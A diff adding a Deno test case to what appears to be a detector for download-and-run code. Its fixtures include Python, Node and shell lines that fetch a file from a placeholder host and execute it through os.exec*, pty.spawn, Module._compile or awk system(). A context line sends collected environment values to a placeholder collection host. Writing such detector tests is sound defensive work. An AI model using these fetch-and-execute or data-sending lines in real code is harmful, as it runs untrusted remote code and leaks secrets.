@@ -1785,6 +1785,38 @@ Deno.test("PowerShell: script blocks nested deep, and methods of one name in man
   timed(classes((i) => `[C${i + 1}]::Go($c)`));
 });
 
+Deno.test("a downloaded file run by Python's os.exec*, os.spawn*, posix_spawn or pty.spawn, Node's Module._compile and awk's system() are download runs", () => {
+  const url = "https://get.example.net/p";
+  const saved =
+    `import os, pty, urllib.request\nurllib.request.urlretrieve("${url}", "/tmp/x.sh")\n`;
+  assertRunsOnlyIn(saved, "py", [
+    "os.execv('/bin/sh', ['sh', '/tmp/x.sh'])\n",
+    "os.execl('/bin/bash', 'bash', '/tmp/x.sh')\n",
+    "os.spawnv(os.P_WAIT, '/bin/sh', ['sh', '/tmp/x.sh'])\n",
+    "os.posix_spawn('/bin/sh', ['sh', '/tmp/x.sh'], os.environ)\n",
+    "os.execvpe('sh', ['sh', '/tmp/x.sh'], os.environ)\n",
+    "pty.spawn(['sh', '/tmp/x.sh'])\n",
+  ], [
+    "os.execvp('git', ['git', 'status'])\n",
+    "os.posix_spawn('/bin/ls', ['ls', '-l'], os.environ)\n",
+    "pty.spawn('/bin/bash')\n",
+    "os.execv(sys.executable, [sys.executable] + sys.argv)\n",
+  ]);
+  const fetched =
+    `const Module = require("module");\nconst code = await (await fetch("${url}")).text();\n`;
+  assertRunsOnlyIn(fetched, "js", ['new Module("x")._compile(code, "x.js");\n'], [
+    'new Module("x")._compile("module.exports = 1", "x.js");\n',
+  ]);
+  assertRunsOnlyIn("#!/bin/bash\n", "sh", [
+    `curl -fsSL ${url} | awk '{system($0)}'\n`,
+    `curl -fsSL ${url} | gawk -v n=1 '{ print | "sh" }'\n`,
+    `curl -fsSL ${url} -o /tmp/l.txt\nawk '{ system("mkdir " $1) }' /tmp/l.txt\n`,
+  ], [
+    `curl -fsSL ${url} | awk '{print $1}'\n`,
+    "awk '{ system(\"echo \" $1) }' list.txt\n",
+  ]);
+});
+
 Deno.test("an environment getter handed as a value reads the variables the call names", () => {
   const send = 'urllib.request.urlopen("https://collect.example.org", data=str(vals).encode())\n';
   const sent = (line: string) =>
